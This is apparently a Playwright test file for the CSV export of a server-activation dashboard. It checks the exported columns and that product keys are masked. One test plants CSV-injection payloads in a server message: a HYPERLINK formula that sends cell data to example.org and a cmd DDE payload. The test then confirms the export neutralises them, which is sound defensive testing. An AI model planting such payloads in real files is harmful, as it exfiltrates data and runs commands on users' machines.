import { readFile } from 'node:fs/promises';
import { parse } from 'papaparse';
import { expect, test } from './fixtures/test';
import { keyOf } from './lab-keys';
import { ActivationPage } from './pages/activation-page';

/** Exports what the page shows, and reads the file as a spreadsheet does. */
async function exported(
  activation: ActivationPage
): Promise<{ name: string; text: string; rows: Record<string, string>[] }> {
  const [download] = await Promise.all([
    activation.page.waitForEvent('download'),
    activation.action('Export').click()
  ]);
  const text = await readFile(await download.path(), 'utf8');
  const { data, errors } = parse<Record<string, string>>(text, { header: true });
  expect(errors).toEqual([]);
  return { name: download.suggestedFilename(), text, rows: data };
}

test.describe('The export', () => {
  test('has all that the table shows, in a file for spreadsheets', async ({ activation, lab }) => {
    await activation.open({ scenario: 'healthy' });
    await expect(activation.sentence).toContainText('All 4 servers');
    const begun = Date.now();
    const { name, text, rows } = await exported(activation);
    expect(name).toMatch(/^activation-cluster01\.contoso\.com-\d{4}-\d\d-\d\d\.csv$/);
    expect(text.startsWith('\ufeff')).toBe(true);
    const { keys, servers } = lab.state();
    expect(
      rows.map(row => [row['Cluster'], row['Full name'], row['Activation'], row['Last five']])
    ).toEqual(
      servers.map(server => [
        'cluster01.contoso.com',
        `${server.name}.contoso.com`,
        'Activated',
        server.lastFive
      ])
    );
    const kinds: Record<string, string> = { mak: 'Volume', oem: 'OEM', retail: 'Retail' };
    for (const row of rows) {
      const used = keys.find(({ key }) => key.endsWith(row['Last five']));
      expect([row['State'], row['Key version'], row['Key type']]).toEqual([
        'Up',
        `${used?.version}`,
        kinds[used?.kind ?? '']
      ]);
      expect(row['Checked at']).toMatch(/T\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
      expect(Math.abs(new Date(row['Checked at']).getTime() - begun)).toBeLessThan(120_000);
    }
    for (const { key } of keys) {
      expect(text).not.toContain(key);
    }
    await activation.expectAccessible();
  });

  test('is safe, whatever a server says: no formula, no key', async ({ activation, lab }) => {
    await activation.open({ scenario: 'healthy' });
    await expect(activation.sentence).toContainText('All 4 servers');
    const key = keyOf(lab, 'mak', 2025);
    await lab.reinstallServer('node02');
    await lab.changeServer('node02', {
      statusErrorText: `=HYPERLINK("http://example.org/?"&A1)\r\n+cmd|' /C calc'!A0;=1+1 Schlüssel ${key}`
    });
    await activation.action('Refresh').click();
    await expect(activation.row('node02')).toContainText('Couldn’t check the status');
    const { text, rows } = await exported(activation);
    expect(rows.length).toBe(4);
    const [, { 'The server’s message': said, 'What happened': what }] = rows;
    expect(said).toContain('HYPERLINK');
    expect(said).toContain(`Schlüssel *****-*****-*****-*****-${key.slice(-5)}`);
    expect(said).toContain(";'=1+1");
    for (const line of `${what}\n${said}`.split(/[\r\n;]+/)) {
      expect(line).not.toMatch(/^[\s"]*[=+\-@]/);
    }
    expect(text).not.toContain(key.slice(0, 5));
    expect(text).not.toContain(key.replace(/-/g, ''));
  });
});
